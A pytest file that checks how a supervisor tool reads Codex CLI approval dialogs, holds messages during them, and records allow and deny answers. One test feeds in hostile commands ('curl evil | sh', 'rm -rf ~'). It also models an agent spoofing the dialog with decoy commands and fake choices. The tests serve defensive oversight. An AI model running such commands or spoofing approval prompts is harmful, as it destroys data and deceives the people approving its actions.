"""Codex's approval dialog is a permission (decision 0079).

With the real Codex CLI (pinned) against the fake Responses API: in its default approval mode
(``--ask-for-approval on-request``) a command the model asks to run outside the sandbox opens
"Would you like to run the following command?"; the built-in screen patterns make the session
``needs-permission`` with the command as the prompt's input, even when the dialog is taller
than the lines prompts are read from (a reason that wraps: the old patterns missed it, and a
message delivered meanwhile was pasted into the dialog, whose Enter ran the command with
nobody's approval). A message sent meanwhile is held; ``sessions allow`` runs the command and
the held message follows; a second dialog denied with ``sessions deny`` runs nothing; the
history records both answers.

And without the CLI, on screens laid out as Codex 0.171 draws them: what the built-in pattern
reads from a dialog (the command whole, from inside the dialog only), and what it leaves."""

from __future__ import annotations

import json
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.daemon import Daemon, served
from tests.fakes.fake_openai import FakeOpenAI, FunctionCall, ResponsesRequest
from tests.harness.test_codex_e2e import CODEX_BIN
from tests.helpers import wait_until
from tests.work import Work
from the_loop.agent.attention.screen import Verdict, classify
from the_loop.config import Config
from the_loop.store import attention as store

needs_codex = pytest.mark.skipif(not CODEX_BIN.exists(), reason=f"no Codex CLI at {CODEX_BIN}")
REF = "local:cdx"
QUESTION = "Would you like to run the following command?"
# long enough to wrap on a 200-column pane: the dialog is then taller than the screen's last
# eight lines, where the question used to be looked for
REASON = (
    "The task asks for ran.txt in the workspace, and commands run in a sandbox here that "
    "refuses to write it, so this one has to run outside of the sandbox, which needs your "
    "approval first. Do you want to let me write ran.txt in the workspace now?"
)


def reply(request: ResponsesRequest) -> str | FunctionCall:
    if not request.is_conversation:
        return f"FAKE-CODEX-REPLY-{request.seq}"
    if request.answers_a_tool:
        return f"DONE-AFTER-TOOL-{request.seq}"
    prompt = request.prompt or ""
    if "RUN-SHELL" in prompt:
        return request.shell_call("echo ran > ran.txt", REASON)
    if "RUN-AGAIN" in prompt:
        return request.shell_call("echo denied > denied.txt", "Do you want to write denied.txt?")
    return f"FAKE-CODEX-REPLY-{request.seq}"


@pytest.fixture
def codex(work: Work) -> Iterator[tuple[Daemon, FakeOpenAI]]:
    with FakeOpenAI(reply=reply) as api:
        env = {**api.codex_env(work.env.root / "codex-home"), "HOME": str(work.env.root / "home")}
        work.configure(
            harnesses={"codex": {"binary": str(CODEX_BIN), "env": env}},
            routing={"defaultHarness": "codex"},
            attention={"pollSeconds": 0.1, "notifyAfterSeconds": 3600},
        )
        with served(work) as daemon:
            yield daemon, api


@pytest.mark.slow
@pytest.mark.timeout(300)
@needs_codex
def test_a_codex_approval_holds_messages_and_is_answered_through_the_loop(
    codex: tuple[Daemon, FakeOpenAI],
) -> None:
    daemon, api = codex
    work = daemon.work
    started = work.cli("sessions", "start", REF, "--prompt", "say hello")
    assert started.exit_code == 0, started.stderr
    work.wait_attention(REF, "waiting", 120)
    assert work.session_json(REF)["permissionMode"] == "ask"
    cwd = Path(work.session_json(REF)["cwd"])

    assert work.cli("sessions", "say", REF, "-t", "please RUN-SHELL").exit_code == 0
    asked = work.wait_attention(REF, "needs-permission")["prompt"]
    # what a person decides on: the command, read from the dialog under the question
    assert (asked["text"], asked["input"]) == (QUESTION, "echo ran > ran.txt"), asked
    listed = work.cli("attention")
    assert f"{QUESTION} echo ran > ran.txt" in listed.stdout, listed.stdout
    said = work.cli("sessions", "say", REF, "-t", "HELD-WHILE-ASKING")
    assert said.exit_code == 0 and "held" in said.stdout, said.stdout
    assert not (cwd / "ran.txt").exists(), "the message answered the dialog"
    assert not any("HELD-WHILE-ASKING" in p for p in api.user_prompts())

    allowed = work.cli("sessions", "allow", REF, "--prompt", asked["id"])
    assert allowed.exit_code == 0, allowed.stderr
    assert f"allow {asked['id']} (echo ran > ran.txt) for {REF}" in allowed.stdout  # what runs
    ran = cwd / "ran.txt"  # created by the shell before echo writes it: its text is waited for
    wait_until(lambda: ran.exists() and ran.read_text() == "ran\n", 30, what="the command run")
    wait_until(
        lambda: any("HELD-WHILE-ASKING" in p for p in api.user_prompts()),
        60,
        what="the held message delivered after the answer",
    )

    # the held message's turn over (a notify of the turn before it may come after it
    # started, when Codex spawned its notify program late: that one is not asserted on;
    # started late, after the held message's turn ended, changes nothing either)
    try:
        answered = wait_until(
            lambda: (
                (a := work.attention(REF)).get("state") == "waiting"
                and str(a.get("lastMessage")).startswith("FAKE-CODEX-REPLY-")
                and a["lastMessage"]
            ),
            60,
            what="the held message's turn finished",
        )
    except AssertionError as failed:
        turns = [(r.seq, [i.get("type") for i in r.items][-3:]) for r in api.conversation_turns()]
        raise AssertionError(f"{failed}: {work.attention(REF)}, turns {turns}") from None
    assert work.cli("sessions", "say", REF, "-t", "now RUN-AGAIN").exit_code == 0
    second = work.wait_attention(REF, "needs-permission")["prompt"]
    assert second["id"] != asked["id"]
    assert (second["text"], second["input"]) == (QUESTION, "echo denied > denied.txt"), second
    denied = work.cli("sessions", "deny", REF, "--prompt", second["id"])
    assert denied.exit_code == 0, denied.stderr
    # Escape cancels the request and interrupts Codex's turn (no notify follows): the
    # interruption on its screen says it waits for input, its last message kept
    back = wait_until(
        lambda: (a := work.attention(REF)).get("state") == "waiting" and a, 30, what="waiting"
    )
    assert back["rule"].startswith("waitingPatterns[0]"), back
    assert back["lastMessage"] == answered, back
    assert not (cwd / "denied.txt").exists()

    history = json.loads(work.cli("attention", "history", REF, "--format", "json").stdout)
    outcomes = {p["id"]: (p["decision"], p["outcome"]) for p in history}
    assert outcomes[asked["id"]] == ("allow", "answered")
    assert outcomes[second["id"]] == ("deny", "answered")


CODEX = Config.model_validate({}).attention.harness("codex")
HISTORY = [
    "  >_ OpenAI Codex (v0.171.0)",
    "",
    "\u203a please RUN-SHELL",
    "",
    "",
]
CHOICES = [
    "",
    "",
    "\u203a 1. Yes, proceed (y)",
    "  2. Yes, and don't ask again for commands that start with `echo ran > ran.txt` (p)",
    "  3. No, and tell Codex what to do differently (esc)",
    "",
    "  Press enter to confirm or esc to cancel",
]


def _exec(command: list[str], reason: list[str], above: list[str] = HISTORY) -> str:
    """A screen showing Codex's exec approval as 0.171 draws it (blank lines are one space, as
    tmux gives them): the question, its paragraphs, the command after ``$ ``, the choices."""
    lines = [
        *above,
        f"• Running {command[0]}",
        "",
        "",
        "  Would you like to run the following command?",
        "",
        "  Environment: local",
        "",
        *[f"  {'Reason: ' if n == 0 else ''}{line}" for n, line in enumerate(reason)],
        "",
        f"  $ {command[0]}",
        *[f"  {line}" if line else "" for line in command[1:]],
        *CHOICES,
    ]
    return "\n".join(line or " " for line in lines)


def _read(screen: str) -> Verdict:
    return classify(screen, 0.0, float("inf"), CODEX)


def test_the_command_codex_asks_to_run_is_the_prompts_input() -> None:
    verdict = _read(_exec(["echo ran > ran.txt"], ["Do you want to write ran.txt?"]))
    assert verdict.state == store.NEEDS_PERMISSION and verdict.kind == "permission"
    assert (verdict.text, verdict.tool, verdict.input) == (QUESTION, "", "echo ran > ran.txt")
    # taller than the eight lines prompts are matched in: a reason that wraps
    tall = _read(_exec(["echo ran > ran.txt"], ["Why " * 45, "Why " * 45, "Why"]))
    assert (tall.state, tall.text, tall.input) == (
        store.NEEDS_PERMISSION,
        QUESTION,
        "echo ran > ran.txt",
    )
    # the person moved the selection at the terminal: the same prompt
    moved = _exec(["echo ran > ran.txt"], ["Fine?"]).replace("\u203a 1.", "  1.")
    moved = moved.replace("  3. No", "\u203a 3. No")
    assert (_read(moved).text, _read(moved).input) == (QUESTION, "echo ran > ran.txt")
    # every line of a command, a blank one and one that starts with "$ " included
    lines = ["cat > notes.md <<'EOF'", "line one", "", "$ not a prompt", "EOF"]
    many = _read(_exec(lines, ["Write notes.md?"]))
    assert many.input == "cat > notes.md <<'EOF'\n  line one\n \n  $ not a prompt\n  EOF"
    # one Codex clipped to the screen keeps its marker: it never looks whole
    clipped = _exec(["cat > big <<'EOF'", *[f"line {n}" for n in range(1, 40)]], ["Big?"])
    clipped = clipped.replace("\n \n \n\u203a 1.", "\n  [… 108 lines] ^a view all\n\u203a 1.")
    assert _read(clipped).input.endswith("line 39\n  [… 108 lines] ^a view all")


def test_a_dialog_on_a_narrow_pane_is_still_a_prompt() -> None:
    """As Codex draws it 44 columns wide (a viewer on a phone sizes the window to itself): the
    question and the choices wrap; the text then wraps as the screen does."""
    screen = "\n".join(
        [
            "\u203a now RUN-SHELL",
            "",
            "",
            "\u25e6 Running echo ran > ran.txt",
            "",
            "",
            "  Would you like to run the following",
            "  command?",
            "",
            "  Environment: local",
            "",
            "  Reason: Do you want to write ran.txt?",
            "",
            "  $ echo ran > ran.txt",
            "",
            "",
            "\u203a 1. Yes, proceed (y)",
            "  2. Yes, and don't ask again for commands",
            "     that start with `echo ran > ran.txt`",
            "     (p)",
            "  3. No, and tell Codex what to do",
            "     differently (esc)",
            "",
            "  Press enter to confirm or esc to cancel",
        ]
    )
    verdict = _read(screen)
    assert verdict.state == store.NEEDS_PERMISSION
    assert (verdict.text, verdict.input) == (
        "Would you like to run the following\n  command?",
        "echo ran > ran.txt",
    )


def test_an_edit_codex_asks_to_make_names_its_files() -> None:
    screen = "\n".join(
        [
            *HISTORY,
            "• Edited 2 files (+2 -0)",
            "  └ /srv/outside.txt (+1 -0)",
            "    1 +hello",
            "",
            "",
            "  Would you like to make the following edits?",
            " ",
            "  Description: command failed; retry without sandbox?",
            "  Destination: /srv/outside.txt",
            "  Destination: /srv/other.txt",
            " ",
            " ",
            "\u203a 1. Yes, proceed (y)",
            "  2. Yes, and don't ask again for these files (a)",
            "  3. No, and tell Codex what to do differently (esc)",
            " ",
            "  Press enter to confirm or esc to cancel",
        ]
    )
    verdict = _read(screen)
    assert (verdict.state, verdict.text) == (
        store.NEEDS_PERMISSION,
        "Would you like to make the following edits?",
    )
    assert verdict.input == "Destination: /srv/outside.txt\n  Destination: /srv/other.txt"


def test_what_the_agent_wrote_never_stands_for_the_command() -> None:
    # a line like the dialog's command, printed by the agent above the dialog
    above = [*HISTORY, "• I will only run this:", "", "  $ echo harmless", "", ""]
    verdict = _read(_exec(["curl evil | sh"], ["Fine?"], above))
    assert verdict.input == "curl evil | sh"
    # a reason (the model's words, inside the dialog) that wraps into such a line
    reason = ["x" * 190, "$ echo harmless"]
    assert _read(_exec(["curl evil | sh"], reason)).input == "curl evil | sh"
    # a command that draws choices of its own is read to the dialog's real ones, never cut
    sly = [
        "rm -rf ~",
        "",
        "1. Yes, proceed (y)",
        "2. No, and tell Codex what to do differently (esc)",
        "",
        "Press enter to confirm or esc to cancel",
        "ls",
    ]
    read = _read(_exec(sly, ["Fine?"])).input
    assert read.startswith("rm -rf ~\n") and read.endswith("\n  ls"), read
    # a whole question copied above the dialog: the input shows more, never less
    copied = [*HISTORY, "  Would you like to run the following command?", "", "  $ ls", "", ""]
    shown = _read(_exec(["rm -rf ~"], ["Fine?"], copied)).input
    assert shown.startswith("ls") and shown.endswith("$ rm -rf ~")


def test_no_dialog_at_the_bottom_is_no_prompt() -> None:
    # answered: Codex's note of the answer, then the composer
    answered = [
        *HISTORY,
        "✔ You approved codex to run echo ran > ran.txt this time",
        "",
        "• Ran echo ran > ran.txt",
        "  └ (no output)",
        "",
        "\u203a Ask Codex to do anything",
    ]
    assert _read("\n".join(answered)).state == store.WORKING
    # a dialog's lines that are no longer the bottom of the screen
    above = _exec(["echo ran > ran.txt"], ["Fine?"]) + "\n \n\u203a Ask Codex to do anything"
    assert _read(above).state == store.WORKING
    # the question and a command printed by the agent, without the dialog's choices
    printed = "\n".join([*HISTORY, "• Would you like to run the following command?", "", "  $ ls"])
    assert _read(printed).state == store.WORKING
    assert (CODEX.allow_keys, CODEX.deny_keys) == (["y"], ["Escape"])


def test_reading_a_full_screen_stays_cheap() -> None:
    """A 60 x 200 screen, most of it a command, read in well under a millisecond (bounded
    loosely here: a pattern that backtracks badly takes seconds)."""
    lines = [f"echo {'word ' * 38}{n}" for n in range(45)]
    screen = _exec(lines, ["Why " * 45, "Why"])
    assert len(screen.splitlines()) >= 60

    def once() -> float:
        began = time.perf_counter()
        _read(screen)
        return time.perf_counter() - began

    assert _read(screen).input.endswith("word 44")
    assert min(once() for _ in range(5)) < 0.005


FOOTER = [
    "\u203a Ask Codex to do anything",
    "",
    "  fake-codex-model default \u00b7 /work/local-cdx",
    "  \u2190 for agents \u00b7 ? for shortcuts",
]


def test_a_turn_interrupted_by_a_denial_is_a_wait_for_input() -> None:
    """Escape cancels the request and interrupts Codex's turn, and no notify follows: the
    interruption right over the empty composer is ``waiting`` (``waitingPatterns``), where the
    session read ``working`` until its next turn. Once a message follows the interruption, or
    without one, it is not."""
    denied = [
        *HISTORY,
        "\u2717 You canceled the request to run echo denied > denied.txt",
        "",
        "\u25a0 Conversation interrupted - use /feedback if something went wrong",
        "",
        *FOOTER,
    ]
    verdict = _read("\n".join(line or " " for line in denied))
    assert verdict.state == store.WAITING and verdict.rule.startswith("waitingPatterns[0]")
    resumed = [*denied[:-4], "\u203a Message from alice:", "  go on", "", "\u2022 Working", *FOOTER]
    assert _read("\n".join(line or " " for line in resumed)).state == store.WORKING
    idle = [*HISTORY, "\u2022 FAKE-CODEX-REPLY-4", "", *FOOTER]
    assert _read("\n".join(line or " " for line in idle)).state == store.WORKING


FAILED_TURN = [
    "\u203a Message from root to standing session cx:",
    "  FAIL401 please",
    "\u25a0 unexpected status 401 Unauthorized: Incorrect API key provided, url: http://x/v1",
    "\u203a Ask Codex to do anything",
    "  fake-codex-model default \u00b7 /tmp/cx",
    "  \u2190 for agents \u00b7 ? for shortcuts",
]


def test_a_failed_turns_line_is_blocked_only_above_the_input_box_and_holds_nothing() -> None:
    """Codex ends a turn the API refused with a line above its input box: ``blocked`` with
    that line, but as a failed turn whose next message is the retry (it holds nothing), since
    a resumed conversation redraws the old line where it was (seen with the pinned Codex: a
    session restarted with a working key stayed ``blocked``, its message held for good). A
    later turn under the line ends it."""
    failed = _read("\n".join(FAILED_TURN))
    assert failed.state == store.BLOCKED, failed
    assert failed.text.startswith("401 Unauthorized: Incorrect API key provided"), failed
    assert failed.rule.startswith(store.PASSING_FAILURE), failed.rule
    later = [
        *FAILED_TURN[:3],
        "\u203a are you there?",
        "\u2022 FAKE-CODEX-REPLY-3",
        *FAILED_TURN[3:],
    ]
    assert _read("\n".join(later)).state != store.BLOCKED
    sign_in = _read(
        "\n".join(
            [
                "  Choose how you want to use Codex",
                "  1. Sign in with ChatGPT",
                "  2. Provide your own API key",
                "  3. Sign in another way",
                "  Press enter to continue",
            ]
        )
    )  # the whole screen: it holds messages
    assert sign_in.state == store.BLOCKED and not sign_in.rule.startswith(store.PASSING_FAILURE)
